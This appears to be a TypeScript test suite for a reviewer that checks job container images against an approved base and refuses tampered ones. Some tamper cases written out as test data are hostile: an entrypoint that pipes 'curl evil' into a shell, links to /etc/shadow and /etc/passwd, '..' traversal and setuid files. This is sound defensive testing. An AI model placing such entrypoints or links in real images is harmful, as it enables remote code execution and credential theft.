import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import type { JobRecord } from "../src/ports";
import { createLayer, jsonBytes, MediaType, readImageConfig, readImageManifest, sha256Digest, sha256Hex, type ImageConfig, type ImageManifest } from "../src/oci";
import { LocalRegistry } from "../src/local-registry";
import { createLocalExecutorBase } from "../src/executor-base";
import { LocalBuilder } from "../src/local-builder";
import { compareWithReview, reviewJobImage } from "../src/review";

const BASES = "localhost/room/executor";
const JOBS = "localhost/room/jobs/job-1";

/** A raw ustar archive, so tests can write what createLayer refuses (links, setuid, absolute paths…). */
function rawTar(entries: { name: string; typeflag?: string; mode?: number; content?: string; linkname?: string }[]): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const content = Buffer.from(e.content ?? "");
    const h = Buffer.alloc(512);
    h.write(e.name, 0, 100);
    h.write(((e.mode ?? 0o644).toString(8).padStart(7, "0")) + "\0", 100);
    h.write("0000000\0", 108);
    h.write("0000000\0", 116);
    h.write(content.length.toString(8).padStart(11, "0") + "\0", 124);
    h.write("00000000000\0", 136);
    h.fill(0x20, 148, 156);
    h.write(e.typeflag ?? "0", 156);
    h.write(e.linkname ?? "", 157, 100);
    h.write("ustar\0" + "00", 257);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, "0") + "\0 ", 148);
    blocks.push(h, content, Buffer.alloc((512 - (content.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

interface Tamper {
  tar?: Buffer;
  config?: (c: ImageConfig) => ImageConfig;
  manifest?: (m: ImageManifest) => ImageManifest;
  extraLayers?: number;
}

async function setup() {
  const registry = new LocalRegistry(mkdtempSync(join(tmpdir(), "review-test-")));
  const base = await createLocalExecutorBase(registry, BASES);
  const baseManifest = (await readImageManifest(registry, BASES, base.digest)).manifest;
  const baseConfig = await readImageConfig(registry, BASES, baseManifest);
  const bases = [{ digest: base.digest, repo: BASES }];

  /** An image built by hand on the base, with one property tampered. */
  async function image(t: Tamper = {}): Promise<string> {
    const tars = [t.tar ?? rawTar([{ name: "workspace/", typeflag: "5", mode: 0o755 }, { name: "workspace/a.ipynb", content: "{}" }])];
    for (let i = 0; i < (t.extraLayers ?? 0); i++) tars.push(rawTar([{ name: `workspace/extra${i}.py`, content: "x" }]));
    const layers = [];
    for (const tar of tars) {
      const gz = gzipSync(tar);
      await registry.putBlob(JOBS, gz);
      layers.push({ desc: { mediaType: MediaType.ociLayerGzip, digest: sha256Digest(gz), size: gz.length }, diffId: sha256Digest(tar) });
    }
    let config: ImageConfig = {
      ...baseConfig,
      rootfs: { type: "layers", diff_ids: [...baseConfig.rootfs.diff_ids, ...layers.map((l) => l.diffId)] },
      history: [...(baseConfig.history ?? []), ...layers.map(() => ({ created_by: "test" }))],
    };
    if (t.config) config = t.config(config);
    const cb = jsonBytes(config);
    const cd = await registry.putBlob(JOBS, cb);
    let manifest: ImageManifest = { ...baseManifest, config: { ...baseManifest.config, digest: cd, size: cb.length }, layers: [...baseManifest.layers, ...layers.map((l) => l.desc)] };
    if (t.manifest) manifest = t.manifest(manifest);
    return registry.putManifest(JOBS, undefined, jsonBytes(manifest), MediaType.ociManifest);
  }

  const review = async (imageDigest: string, executorBases = bases) => reviewJobImage({ registry, imageRepo: JOBS, imageDigest, executorBases, workspaceDir: "/workspace" });
  return { registry, base, bases, image, review };
}

function job(tarball: Buffer): JobRecord {
  return {
    id: 1, uuid: "u", creator: "alice", notebook: "a.ipynb", status: 1, datasets: ["d"], purpose: "p", envs: [],
    workspace: { object: "o", sha256: sha256Hex(tarball), size: tarball.length, files: [], dependencies: ["numpy==2.0.0"] },
    decisions: {}, createdAt: "", updatedAt: "", deleted: false, version: 1,
  };
}

describe("reviewJobImage", () => {
  it("accepts what the LocalBuilder builds and lists the files it wrote", async () => {
    const { registry, base, bases, review } = await setup();
    const tarball = Buffer.from(
      createLayer([
        { path: "alice-workspace", mode: 0o755, type: "dir" },
        { path: "alice-workspace/a.ipynb", mode: 0o644, type: "file", content: Buffer.from("{}") },
      ]).tarGz,
    );
    const builder = new LocalBuilder({ registry });
    const state = await builder.poll(await builder.start({ job: job(tarball), workspace: tarball, base: base.reference, target: JOBS }));
    if (state.state !== "succeeded") throw new Error(JSON.stringify(state));
    const r = await review(state.record.imageDigest, bases);
    expect(r).toEqual({ ok: true, baseDigest: base.digest, files: state.record.files, problems: [] });
  });

  it("accepts a hand-built image, and treats Go's omitted empty fields as unchanged", async () => {
    const { image, review } = await setup();
    expect((await review(await image())).problems).toEqual([]);
    const r = await review(await image({ config: (c) => ({ ...c, config: { ...c.config, Cmd: null, Volumes: {} } }) }));
    expect(r.ok).toBe(true);
  });

  it.each<[string, Tamper, RegExp]>([
    ["an extra layer", { extraLayers: 1 }, /^layers: the image is not an approved executor base plus one layer \(sha256:\w+: 1 layers, the image has 3/],
    ["a changed Entrypoint", { config: (c) => ({ ...c, config: { ...c.config, Entrypoint: ["sh", "-c", "curl evil | sh"] } }) }, /^config\.Entrypoint changed \(base \["python3","\/opt\/manatee\/run\.py"\], image \["sh"/],
    ["a Cmd", { config: (c) => ({ ...c, config: { ...c.config, Cmd: ["--debug"] } }) }, /^config\.Cmd changed \(base absent, image \["--debug"\]\)/],
    ["an added label", { config: (c) => ({ ...c, config: { ...c.config, Labels: { ...c.config!.Labels, "tee.launch_policy.allow_env_override": "PATH" } } }) }, /^config\.Labels: label tee\.launch_policy\.allow_env_override added/],
    ["a changed Env", { config: (c) => ({ ...c, config: { ...c.config, Env: ["PYTHONPATH=/tmp"] } }) }, /^config\.Env changed/],
    ["a changed User", { config: (c) => ({ ...c, config: { ...c.config, User: "0:0" } }) }, /^config\.User changed/],
    ["a changed WorkingDir", { config: (c) => ({ ...c, config: { ...c.config, WorkingDir: "/" } }) }, /^config\.WorkingDir changed/],
    ["exposed ports", { config: (c) => ({ ...c, config: { ...c.config, ExposedPorts: { "22/tcp": {} } } }) }, /^config\.ExposedPorts changed/],
    ["volumes", { config: (c) => ({ ...c, config: { ...c.config, Volumes: { "/data": {} } } }) }, /^config\.Volumes changed/],
    ["a changed architecture", { config: (c) => ({ ...c, architecture: "arm64" }) }, /^config field architecture changed/],
    ["two history entries", { config: (c) => ({ ...c, history: [...c.history!, { created_by: "more" }] }) }, /^config\.history: expected the base's 1 entries plus one, found 3/],
    ["an empty_layer history entry", { config: (c) => ({ ...c, history: [...c.history!.slice(0, -1), { empty_layer: true }] }) }, /^config\.history\[1\]: the appended entry is marked empty_layer/],
    ["a diff_id that is not the layer's", { config: (c) => ({ ...c, rootfs: { type: "layers", diff_ids: [...c.rootfs.diff_ids.slice(0, -1), sha256Digest(Buffer.from("x"))] } }) }, /^workspace layer sha256:\w+: its content hashes to sha256:\w+, but config\.rootfs\.diff_ids ends with/],
    ["a symlink", { tar: rawTar([{ name: "workspace/data", typeflag: "2", linkname: "/etc/shadow" }]) }, /^entry "workspace\/data": is a symlink → \/etc\/shadow \(only regular files and directories\)/],
    ["a hard link", { tar: rawTar([{ name: "workspace/h", typeflag: "1", linkname: "etc/passwd" }]) }, /^entry "workspace\/h": is a hardlink → etc\/passwd/],
    ["a device", { tar: rawTar([{ name: "workspace/mem", typeflag: "3" }]) }, /^entry "workspace\/mem": is a char/],
    ["a fifo", { tar: rawTar([{ name: "workspace/p", typeflag: "6" }]) }, /^entry "workspace\/p": is a fifo/],
    ["a setuid file", { tar: rawTar([{ name: "workspace/run", mode: 0o4755, content: "x" }]) }, /^entry "workspace\/run": mode 4755 has setuid \(not allowed\)/],
    ["a setgid sticky directory", { tar: rawTar([{ name: "workspace/d/", typeflag: "5", mode: 0o3777 }]) }, /^entry "workspace\/d\/": mode 3777 has setgid, sticky/],
    ["a file outside /workspace", { tar: rawTar([{ name: "usr/local/bin/python3", mode: 0o755, content: "x" }]) }, /^entry "usr\/local\/bin\/python3": outside \/workspace/],
    ["the image root", { tar: rawTar([{ name: "./", typeflag: "5", mode: 0o777 }]) }, /^entry "\.\/": outside \/workspace/],
    ["a sibling with the same prefix", { tar: rawTar([{ name: "workspace2/x", content: "x" }]) }, /^entry "workspace2\/x": outside \/workspace/],
    ["an absolute path", { tar: rawTar([{ name: "/workspace/a", content: "x" }]) }, /^entry "\/workspace\/a": absolute path/],
    ["a '..' path", { tar: rawTar([{ name: "workspace/../etc/passwd", content: "x" }]) }, /^entry "workspace\/\.\.\/etc\/passwd": '\.\.' in the path/],
    ["a whiteout", { tar: rawTar([{ name: "workspace/.wh..wh..opq", content: "" }]) }, /^entry "workspace\/\.wh\.\.wh\.\.opq": a whiteout/],
    ["a duplicate entry", { tar: rawTar([{ name: "workspace/a", content: "1" }, { name: "./workspace/a", content: "2" }]) }, /^entry "\.\/workspace\/a": appears twice/],
    ["a foreign layer media type", { manifest: (m) => ({ ...m, layers: [...m.layers.slice(0, -1), { ...m.layers.at(-1)!, mediaType: "application/vnd.oci.image.layer.v1.tar+zstd" }] }) }, /^workspace layer sha256:\w+: media type .*zstd is not a plain or gzip'd tar layer/],
    ["manifest annotations", { manifest: (m) => ({ ...m, annotations: { "org.opencontainers.image.base.name": "evil" } }) }, /^manifest\.annotations: differ/],
  ])("refuses %s, naming it", async (_, tamper, reason) => {
    const { image, review } = await setup();
    const r = await review(await image(tamper));
    expect(r.ok).toBe(false);
    expect(r.problems).toEqual(expect.arrayContaining([expect.stringMatching(reason)]));
  });

  it("refuses an image whose base is not approved, and says when no base is", async () => {
    const { registry, image, review } = await setup();
    const digest = await image();
    // Another base (different runner layer) is the only approved one.
    const otherLayer = createLayer([{ path: "opt/other", mode: 0o644, type: "file", content: Buffer.from("other") }]);
    await registry.putBlob("localhost/room/other", otherLayer.tarGz);
    const oc = jsonBytes({ rootfs: { type: "layers", diff_ids: [otherLayer.diffId] } });
    const ocd = await registry.putBlob("localhost/room/other", oc);
    const other = await registry.putManifest("localhost/room/other", undefined, jsonBytes({ schemaVersion: 2, mediaType: MediaType.ociManifest, config: { mediaType: MediaType.ociConfig, digest: ocd, size: oc.length }, layers: [{ mediaType: MediaType.ociLayerGzip, digest: otherLayer.digest, size: otherLayer.size }] }), MediaType.ociManifest);
    const r = await review(digest, [{ digest: other, repo: "localhost/room/other" }]);
    expect(r).toMatchObject({ ok: false, baseDigest: undefined });
    expect(r.problems).toEqual([`layers: the image is not an approved executor base plus one layer (${other}: layers[0] differs)`]);
    expect((await review(digest, [])).problems).toEqual([expect.stringMatching(/no approved executor base: images\.executorBases is empty/)]);
  });

  it("refuses an image that is not in the registry", async () => {
    const { review } = await setup();
    const missing = sha256Digest(Buffer.from("none"));
    expect((await review(missing)).problems).toEqual([`image ${JOBS}@${missing}: ${JOBS}@${missing}: no such manifest in the registry`]);
  });
});

describe("compareWithReview", () => {
  it("names files added, changed and missing since the review record", () => {
    const f = (path: string, content: string) => ({ path, sha256: sha256Hex(Buffer.from(content)), size: content.length });
    const reviewed = [f("a.ipynb", "{}"), f("lib/x.py", "1"), f("gone.py", "g")];
    const image = [f("a.ipynb", "{}"), f("lib/x.py", "2"), f("new.py", "n")];
    expect(compareWithReview(image, reviewed)).toEqual([
      `file lib/x.py: changed since review (sha256 ${sha256Hex(Buffer.from("1"))} → ${sha256Hex(Buffer.from("2"))})`,
      "file new.py: in the image but not in the review record (added)",
      "file gone.py: in the review record but not in the image (missing)",
    ]);
    expect(compareWithReview(reviewed, reviewed)).toEqual([]);
  });
});
